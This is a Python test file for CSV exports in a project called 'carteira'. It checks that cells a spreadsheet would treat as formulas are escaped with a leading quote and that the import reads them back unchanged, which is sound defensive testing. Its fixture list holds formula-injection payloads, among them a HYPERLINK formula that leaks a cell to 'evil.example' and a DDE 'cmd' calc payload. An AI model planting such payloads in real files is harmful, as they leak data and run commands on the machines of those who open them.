"""No formula injection through CSV exports (issue 14, row 3; CWE-1236, WA-8).

The campaign's reproducer: a manager named ``=HYPERLINK(...)`` was written to the CSV
export as it was, and ran as a formula when an administrator opened the file. A cell a
spreadsheet would take for a formula is now written behind a ``'``, and our own import
takes the ``'`` off again, so an export reads back unchanged.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from carteira import Carteira, Principal
from carteira.spreadsheets import (
    DataSet,
    SourceRow,
    Table,
    TableKind,
    read_csv,
    read_dataset,
    write_dataset,
)
from carteira.spreadsheets._csv import write_csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"ajuda")',
    "+55 11 99999-0000",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''+twice",
    "'s-Hertogenbosch",
    "Ana;=1+1",  # a spreadsheet splitting lines on ";" starts a cell after it
    "Ana,@SUM(1)",
    "Ana\t-2",
    "Ana\n=1+1&",  # a reader splitting on ";" ends the row at the quoted line break
    'b;"=1+1',
    "Ana",
]


def _write(rows: list[str]) -> str:
    table = Table(
        TableKind.MANAGERS,
        "managers.csv",
        ("id", "name"),
        tuple(SourceRow(n, {"id": f"m{n}", "name": name}) for n, name in enumerate(rows, 2)),
    )
    out = io.StringIO()
    write_csv(table, out)
    return out.getvalue()


def test_cwe1236_row3_no_exported_cell_starts_a_formula() -> None:
    """WA-8: what a spreadsheet reads from the file starts with no formula character."""
    text = _write(NAMES)
    cells = [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]
    assert len(cells) == 2 * (len(NAMES) + 1)
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell
    for separator in (";", "\t"):  # what a spreadsheet of another locale splits on
        for line in text.splitlines():
            for cell in line.split(separator):
                assert not cell.lstrip('"').startswith(FORMULA_STARTS), (separator, cell)
    assert "'=HYPERLINK" in text
    assert f"\nm{NAMES.index('Ana') + 2},Ana\n" in text  # a plain name is written as it is


@given(
    st.lists(st.text(st.sampled_from("=+-@'\t\rab ,;\""), min_size=1).map(str.strip), min_size=1)
)
def test_cwe1236_row3_our_import_reads_the_export_back_unchanged(names: list[str]) -> None:
    """WA-8: the guard is taken off on reading, and only the guard."""
    names = [n or "x" for n in names]
    table = read_csv(_write(names).encode(), source="m.csv", kind=TableKind.MANAGERS)
    assert [row.values["name"] for row in table.rows] == names


def test_cwe1236_row3_an_export_of_a_hostile_name_is_safe_and_imports_back(
    app: Carteira, store: Any, system: Principal, tmp_path: Path
) -> None:
    """WA-8, PM-2: end to end on every store, through export_dataset and write_dataset."""
    for n, name in enumerate(NAMES):
        app.register_manager(system, f"m{n}", name)
    written = write_dataset(app.export_dataset(system), tmp_path)
    text = Path(tmp_path, "managers.csv").read_text(encoding="utf-8")
    for record in csv.reader(io.StringIO(text, newline="")):
        for cell in record:
            assert not cell.startswith(FORMULA_STARTS), cell
    again = read_dataset(tmp_path)
    before = store.snapshot()
    assert written
    assert app.import_dataset(system, DataSet(again.tables)).value.applied == 0
    assert store.snapshot() == before
